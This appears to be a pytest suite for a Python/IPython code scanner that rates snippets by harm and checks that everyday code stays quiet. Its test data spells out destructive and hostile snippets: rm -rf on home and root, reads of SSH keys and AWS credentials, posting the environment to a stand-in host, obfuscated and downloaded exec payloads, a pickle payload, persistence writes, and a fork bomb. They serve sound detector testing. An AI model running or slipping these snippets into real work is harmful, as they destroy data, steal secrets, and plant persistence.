"""The Python/IPython scanner: harm-based severities, alias and folding, benign code quiet."""

from __future__ import annotations

import subprocess
import sys

import pytest

from codeflow_magic.errors import UsageError
from codeflow_magic.models import Finding, severity_rank
from codeflow_magic.security import (
    POLICIES,
    blocking_findings,
    format_findings,
    highest_severity,
    scan_code,
)

CATEGORIES = {
    "process",
    "filesystem",
    "network",
    "dynamic-code",
    "dangerous-module",
    "introspection",
    "persistence",
    "secrets",
    "resource",
}

HARMFUL = [
    # (code, at least this severity, a category that must appear, text in some message)
    ('import os\nos.system("rm -rf ~")', "critical", "process", "deletes the home directory"),
    ('import os as o\no.system("rm -rf /")', "critical", "process", "root filesystem"),
    ('from os import system as s\ns("rm -rf $HOME")', "critical", "process", "home"),
    ('import subprocess as sp\nsp.run(["rm", "-rf", "/etc"])', "critical", "process", "system"),
    ("import os\nos.system(input())", "high", "process", "computed command"),
    ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "critical", "filesystem", "home"),
    (
        "from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home())",
        "critical",
        "filesystem",
        "home",
    ),
    ("import os\nos.remove('/data/app/db.sqlite')", "high", "filesystem", "outside the work dir"),
    ("print(open('/root/.ssh/id_rsa').read())", "critical", "secrets", "SSH private key"),
    (
        "import os\nopen(os.path.expanduser('~/.aws/credentials')).read()",
        "critical",
        "secrets",
        "AWS",
    ),
    ("import os\nprint(os.environ)", "high", "secrets", "whole environment"),
    ("import os\nprint(os.environ['ANTHROPIC_API_KEY'])", "high", "secrets", "ANTHROPIC_API_KEY"),
    (
        "import requests\nrequests.post('https://x.invalid', data=payload)",
        "high",
        "network",
        "sends data",
    ),
    ("import requests\nrequests.get('http://x.invalid/a.json')", "medium", "network", "x.invalid"),
    (
        "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))",
        "critical",
        "secrets",
        "exfiltration",
    ),
    (
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiB+Jyk='))",
        "critical",
        "dynamic-code",
        "decoded payload",
    ),
    ("eval('1 + 1')", "medium", "dynamic-code", "literal code"),
    ("eval(input())", "high", "dynamic-code", "computed code"),
    (
        "import requests\nexec(requests.get('https://x.invalid/p.py').text)",
        "critical",
        "dynamic-code",
        "downloaded",
    ),
    ("__import__('o' + 's').system('rm -rf ~')", "critical", "process", "home"),
    (
        "import importlib\nimportlib.import_module('os').system('rm -rf ~')",
        "critical",
        "process",
        "home",
    ),
    ("import importlib\nimportlib.import_module(input())", "high", "dynamic-code", "computed"),
    ("__import__(input())", "high", "dynamic-code", "computed"),
    ("import os\ngetattr(os, 'sys' + 'tem')('rm -rf ~')", "critical", "process", "home"),
    ("import os\ngetattr(os, input())('id')", "high", "introspection", "computed attribute"),
    ("import os\ngetattr(os, ''.join(['sys', 'tem']))('rm -rf ~')", "critical", "process", "home"),
    ("import os\nos.system('%s -rf %s' % ('rm', '~'))", "critical", "process", "home"),
    ("import os\nos.system('{} -rf {}'.format('rm', '~'))", "critical", "process", "home"),
    ("import os\nx = '~'\nos.system(f'rm -rf {x}')", "critical", "process", "home"),
    ("import os\nos.system(chr(114)+chr(109)+' -rf ~')", "critical", "process", "home"),
    ("import os\nos.system(bytes([114, 109]).decode() + ' -rf ~')", "critical", "process", "home"),
    (
        "import os, codecs\nos.system(codecs.decode('ez -es ~', 'rot13'))",
        "critical",
        "process",
        "home",
    ),
    (
        "import os, zlib\nos.system(zlib.decompress(zlib.compress(b'rm -rf ~')).decode())",
        "critical",
        "process",
        "home",
    ),
    (
        "import os\nos.system(bytes.fromhex('726d202d7266207e').decode())",
        "critical",
        "process",
        "home",
    ),
    ("().__class__.__bases__[0].__subclasses__()", "high", "introspection", "__subclasses__"),
    ("import sys\nsys.modules['os'].system('rm -rf ~')", "critical", "process", "home"),
    ("import sys\nf = sys._getframe(0).f_globals", "high", "introspection", "frame"),
    ("import numpy as np\nnp.os.system('ls')", "high", "introspection", "through numpy"),
    ("import ctypes\nctypes.CDLL('libc.so.6').system(b'rm -rf ~')", "critical", "process", "home"),
    (
        "import pickle\npickle.loads(b'cos\\nsystem\\n(S\\'id\\'\\ntR.')",
        "critical",
        "dangerous-module",
        "payload",
    ),
    ("import marshal\nmarshal.loads(b'')", "high", "dangerous-module", "marshal"),
    (
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        "critical",
        "persistence",
        "start-up",
    ),
    (
        "open('/usr/lib/python3/dist-packages/x.pth', 'w').write('import os')",
        "critical",
        "persistence",
        ".pth",
    ),
    (
        "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('k')",
        "critical",
        "persistence",
        "SSH login key",
    ),
    ("import os\nwhile True:\n    os.fork()", "critical", "resource", "fork"),
    (
        "i = 0\nwhile True:\n    open(f'f{i}', 'w').write('x')\n    i += 1",
        "high",
        "resource",
        "endless loop",
    ),
    ("buf = bytearray(10**12)", "high", "resource", "GB"),
    ("s = 'x' * 10**11", "high", "resource", "GB"),
    ("import os, signal\nos.kill(-1, signal.SIGKILL)", "critical", "process", "every process"),
]


@pytest.mark.parametrize(("code", "severity", "category", "text"), HARMFUL)
def test_harmful_code_is_rated_by_harm(code: str, severity: str, category: str, text: str) -> None:
    findings = scan_code(code, "python")
    assert severity_rank(highest_severity(findings)) >= severity_rank(severity), format_findings(
        findings
    )
    assert any(f.category == category for f in findings), format_findings(findings)
    assert text.lower() in format_findings(findings).lower()
    assert {f.category for f in findings} <= CATEGORIES | {"dynamic-code"}


BENIGN = [
    "import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.to_csv('out.csv', index=False)",
    "import numpy as np\nprint(np.arange(10).mean())",
    "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('p.png')",
    "import json\njson.dump({'a': 1}, open('out.json', 'w'))",
    "import csv\nw = csv.writer(open('rows.csv', 'w'))\nw.writerow([1, 2])",
    "import hashlib\nprint(hashlib.sha256(open('data.csv', 'rb').read()).hexdigest())",
    "import os\nos.makedirs('results', exist_ok=True)\nprint(os.path.join('results', 'a.txt'))",
    "from pathlib import Path\nprint(list(Path('data').glob('*.csv')))",
    "import os\nfor f in os.listdir('.'):\n    if f.endswith('.tmp'):\n        os.remove(f)",
    "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\nprint(df.eval('a * 2'))",
    "import os\nprint(os.environ.get('DATA_DIR', 'data'))",
    "n = 0\nwhile True:\n    n += 1\n    if n > 3:\n        break",
    "import pickle\nwith open('m.pkl', 'rb') as f:\n    m = pickle.load(f)",
    "print('see ~/.ssh/config for details')".replace("~/.ssh/config", "the docs"),
]


@pytest.mark.parametrize("code", BENIGN)
def test_everyday_code_stays_quiet(code: str) -> None:
    findings = scan_code(code, "python")
    assert severity_rank(highest_severity(findings)) <= severity_rank("low"), format_findings(
        findings
    )


def test_harmless_subprocess_is_low_at_most() -> None:
    findings = scan_code("import subprocess\nsubprocess.run(['git', 'pull'])", "python")
    assert highest_severity(findings) == "low"
    assert findings[0].category == "process" and "git pull" in findings[0].message
    # Only looking (`git status`) is not worth a finding.
    assert scan_code("import subprocess\nsubprocess.run(['git', 'status'])", "python") == []


def test_ipython_shell_escapes_and_magics_are_scanned() -> None:
    for code, language in [
        ("x = 1\n!rm -rf ~", "ipython"),
        ("x = 1\n!rm -rf ~", "python"),  # a kernel runs IPython syntax whatever we call it
        ("files = !!rm -rf ~", "ipython"),
        ("%system rm -rf ~", "ipython"),
        ("%sx rm -rf ~", "ipython"),
        ("%%bash\necho hi\nrm -rf ~", "ipython"),
        ("%%script bash\nrm -rf ~", "ipython"),
        ("%%time\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "ipython"),
    ]:
        findings = scan_code(code, language)
        assert highest_severity(findings) == "critical", (code, format_findings(findings))
    bash_cell = scan_code("%%bash\necho hi\nrm -rf ~", "ipython")
    assert bash_cell[0].line == 3  # the line inside the cell, not the magic's line


def test_harmless_ipython_stays_quiet() -> None:
    code = "%matplotlib inline\n!ls -la\nimport numpy as np\n%timeit np.arange(10).sum()"
    assert severity_rank(highest_severity(scan_code(code, "ipython"))) <= 0


def test_unparseable_code_fails_closed() -> None:
    findings = scan_code("def broken(:\n    pass", "python")
    assert findings[0].rule == "unparseable"
    assert findings[0].severity == "high"
    assert blocking_findings(findings, "strict") == findings[:1]


def test_findings_sorted_by_severity_then_line() -> None:
    code = "import os\neval('1')\nos.system('rm -rf ~')\nprint(os.environ)\neval('2')"
    findings = scan_code(code, "python")
    keys = [(-severity_rank(f.severity), f.line) for f in findings]
    assert keys == sorted(keys)
    assert findings[0].severity == "critical" and findings[0].line == 3


def test_format_findings_is_one_short_line_each() -> None:
    findings = scan_code('import os\n\nos.system("rm -rf ~")', "python")
    text = format_findings(findings)
    assert text.splitlines()[0] == (
        "line 3: [critical/process] os.system runs 'rm -rf ~': deletes the home directory"
    )
    assert format_findings([]) == ""


def test_policies() -> None:
    f = [
        Finding("a", "critical", "process", 1, "x"),
        Finding("b", "high", "network", 2, "y"),
        Finding("c", "medium", "network", 3, "z"),
    ]
    assert POLICIES == ("block", "strict", "warn", "off")
    assert [x.rule for x in blocking_findings(f, "block")] == ["a"]
    assert [x.rule for x in blocking_findings(f, "strict")] == ["a", "b"]
    assert blocking_findings(f, "warn") == [] and blocking_findings(f, "off") == []
    assert highest_severity(f) == "critical" and highest_severity([]) == "none"
    with pytest.raises(UsageError):
        blocking_findings(f, "paranoid")
    with pytest.raises(UsageError):
        scan_code("x = 1", "cobol")


def test_nested_exec_is_scanned_to_the_bottom() -> None:
    code = "exec(\"exec('import os; os.system(\\\\'rm -rf ~\\\\')')\")"
    findings = scan_code(code, "python")
    assert highest_severity(findings) == "critical", format_findings(findings)


def test_deep_nesting_does_not_crash() -> None:
    code = "x = " + "(" * 200 + "1" + ")" * 200
    findings = scan_code(code, "python")
    assert isinstance(findings, list)  # parsed or reported, never an exception


def test_importing_the_scanner_does_not_import_ipython() -> None:
    probe = (
        "import sys, codeflow_magic.security as s\n"
        "assert 'IPython' not in sys.modules, 'imported at load'\n"
        "s.scan_code('x = 1', 'python')\n"
        "assert 'IPython' not in sys.modules, 'imported for plain Python'\n"
        "s.scan_code('!ls', 'ipython')\n"
        "assert 'IPython' in sys.modules\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 0, proc.stderr
